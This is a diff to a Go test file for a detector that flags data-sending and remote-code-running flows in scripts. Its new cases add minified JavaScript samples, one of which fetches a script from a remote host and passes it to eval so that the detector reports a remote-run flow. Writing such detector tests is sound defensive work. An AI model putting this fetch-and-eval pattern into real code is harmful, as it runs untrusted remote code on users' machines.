@@ -13,6 +13,9 @@ import (
 // script a skill runs: accepted when a flow is found.
 func egressJudge(code string) bool { return len(reading.CodeFlows(code, false)) > 0 }
 
+// minifiedFiller is a minified bundle's functions, past maxStmtBytes.
+var minifiedFiller = strings.Repeat("function f(a,b){var c=a+b;return c*2;}", 80)
+
 // TestCodeFlows pins the flows read in code: the rule, the kind and the
 // statement's first line (1-based) of each hit; an empty want is none.
 func TestCodeFlows(t *testing.T) {
@@ -56,6 +59,12 @@ func TestCodeFlows(t *testing.T) {
 		{"const re = /^\\(/;\nconst env = process.env;\nconst a = 1;\nconst b = 2;\nconst c = 3;\nconst d = 4;\nconst e = 5;\nconst f = 6;\nconst g = 7;\nconst h = 8;\nconst i = 9;\nconst j = 10;\nconst k = 11;\nconst l = 12;\nconst m = 13;\nconsole.log('https://docs.vqmrt.io/');\nfetch('https://api.vqmrt.io/ping');\n", false, nil},
 		// Honest: a comment that names an address and the environment.
 		{"# never post os.environ to https://x.vqmrt.io\nprint('ok')\n", false, nil},
+		// Honest: a minified bundle, one line in one wrapper: a fetch in
+		// one function's body and an eval in another's are statements
+		// of their own (maxStmtBytes), not one statement of the bundle.
+		{"(function(){function load(u){return fetch('https://cdn.vqmrt.io/m.json').then(function(r){return r.json()});}" + minifiedFiller + "function run(c){return eval(c);}})();\n", false, nil},
+		// The same bundle running what it fetched, in one statement.
+		{"(function(){" + minifiedFiller + "fetch('https://d.vqmrt.io/s.js').then(function(r){return r.text()}).then(function(s){eval(s)});})();\n", false, []string{"shell.flow-remote-run code-run 1"}},
 	} {
 		t.Run(fmt.Sprint(i), func(t *testing.T) {
 			var got []string
